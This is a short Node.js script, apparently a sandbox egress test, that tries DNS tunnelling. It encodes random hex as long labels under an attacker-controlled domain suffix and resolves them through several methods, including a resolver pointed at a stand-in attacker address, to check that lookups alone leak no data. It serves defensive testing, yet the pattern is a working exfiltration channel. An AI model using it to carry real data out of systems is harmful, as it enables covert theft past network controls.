'use strict';
// HOSTILE (do not run outside the sandbox): DNS tunnelling. Data goes out as labels of names
// under `suffix` (a domain the attacker's server answers for): random hex, long labels, many
// names, looked up through getaddrinfo (A and AAAA), c-ares (A, TXT) and c-ares aimed at the
// attacker's resolver itself. Nothing connects: a lookup alone must carry nothing out.
// Input: { suffix, count }. Output: { names, results: [{ name, method, addresses, error }] }.
const crypto = require('node:crypto');
const dns = require('node:dns');
const { readInput, code, out } = require('./lib.js');

const TIMEOUT_MS = 3000;

async function bounded(p) {
  let timer;
  const t = new Promise((_, reject) => { timer = setTimeout(() => reject(Object.assign(new Error('timeout'), { code: 'TIMEOUT' })), TIMEOUT_MS); });
  try { return await Promise.race([p, t]); } finally { clearTimeout(timer); }
}

async function one(name, method, f) {
  try {
    const r = await bounded(f());
    return { name, method, addresses: r.flat(), error: null };
  } catch (e) {
    return { name, method, addresses: [], error: code(e) };
  }
}

(async () => {
  const input = await readInput();
  const suffix = input.suffix;
  const count = Math.min(input.count ?? 8, 32);
  const names = [];
  for (let i = 0; i < count; i++) {
    const secret = crypto.randomBytes(60).toString('hex');
    names.push(`${secret.slice(0, 60)}.${secret.slice(60)}.${i}.${suffix}`);
  }
  const own = new dns.promises.Resolver({ timeout: 1000, tries: 1 });
  own.setServers(['203.0.113.53']);
  const cares = new dns.promises.Resolver({ timeout: 1000, tries: 1 });
  const results = (await Promise.all(names.map(async (name, i) => {
    switch (i % 4) {
      case 0: return one(name, 'lookup', async () => (await dns.promises.lookup(name, { all: true })).map((a) => a.address));
      case 1: return one(name, 'resolve4', () => cares.resolve4(name));
      case 2: return one(name, 'resolveTxt', () => cares.resolveTxt(name));
      default: return one(name, 'own_resolver', () => own.resolve4(name));
    }
  })));
  out({ names, results });
})().catch((e) => out({ crashed: String(e) }));
